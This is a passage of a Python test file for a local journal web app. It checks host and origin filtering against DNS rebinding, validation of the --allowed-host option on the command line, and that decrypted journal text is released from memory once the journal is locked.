    # Another device of the house, by the computer's address; this computer itself.
    assert status(everywhere, "192.168.1.20:8550", "http://192.168.1.20:8550") == "app"
    assert status(everywhere, "[fd00::20]:8550", "http://[fd00::20]:8550") == "app"
    assert status(everywhere, "localhost:8550", "http://localhost:8550") == "app"
    assert status(everywhere, "192.168.1.20:9999") == "refused"  # not this server's port
    assert status(everywhere, "192.168.1.20:8550", "http://rebound.example:8550") == "refused"

    named = SameOriginOnly(app, served_hosts("0.0.0.0", 8550, ["monordi.local"]))
    assert status(named, "monordi.local:8550", "http://monordi.local:8550") == "app"
    assert status(named, "rebound.example:8550", "http://rebound.example:8550") == "refused"

    one_address = SameOriginOnly(app, served_hosts("192.168.1.20", 80))
    assert status(one_address, "192.168.1.20") == "app"  # port 80: browsers leave it out
    assert status(one_address, "192.168.1.30") == "refused"


def test_allowed_host_is_a_name_in_the_help_and_on_the_command_line(tmp_path):
    from tests.test_cli_inprocess import run

    helped = " ".join(run(tmp_path, "web", "--help", lang="en_CA.UTF-8").stdout.split())
    assert "--allowed-host NAME" in helped and "DNS rebinding" in helped and "by IP address" in helped
    assert " ".join(run(tmp_path, "web", "--help").stdout.split()).count("réassociation DNS") == 1
    for bad in ("http://x", "a b", "x_y.local", "10.0.0.1"):
        refused = run(tmp_path, "web", "--host", "0.0.0.0", "--allow-network", "--allowed-host", bad)
        assert refused.returncode == 2 and "valeur invalide" in refused.stderr


def test_after_a_lock_no_live_str_holds_the_journals_words(tmp_path):
    """E18: after « Verrouiller le journal », 225 str objects holding the entries' words (the
    journal screen's entries, its controls' texts) stayed alive in reference cycles until Python's
    cyclic collector happened to run, which in an idle web server can be long. A person's lock
    now lets go of them at once; the session a command uses already did."""
    import asyncio
    import gc

    import flet as ft

    from bench.bench_lock_memory import MARKER, live_objects_holding, make_journal
    from journal_app.journal import EntryFilter
    from journal_app.session import JournalSession
    from tests.flet_harness import run_ui
    from tests.test_views import app, unlock

    make_journal(tmp_path, entries=200)
    gc.collect()  # what writing the journal left here is not the point

    session = JournalSession(tmp_path)
    session.unlock(PASSPHRASE)
    assert session.journal.search("poitrine", EntryFilter())
    session.lock()
    assert live_objects_holding(MARKER, collect=False) == []

    async def body():
        h, shell = await app(tmp_path)
        await unlock(h)
        await h.type(h.find(ft.TextField, "Rechercher"), "poitrine")
        await h.click(ft.ListTile, "Soir 199")
        await h.wait_for(lambda: h.has_text("Type d’entrée"))
        assert len(live_objects_holding(MARKER, collect=False)) > 200  # the scan sees them
        await h.click(ft.IconButton, "Verrouiller le journal")
        await h.wait_for(lambda: h.has_text("Déverrouiller"))
        await asyncio.sleep(0.5)  # the page lives on, showing the unlock screen
        left = live_objects_holding(MARKER, collect=False)
        assert left == [], [str(o)[:60] for o in left[:3]]

    run_ui(body)
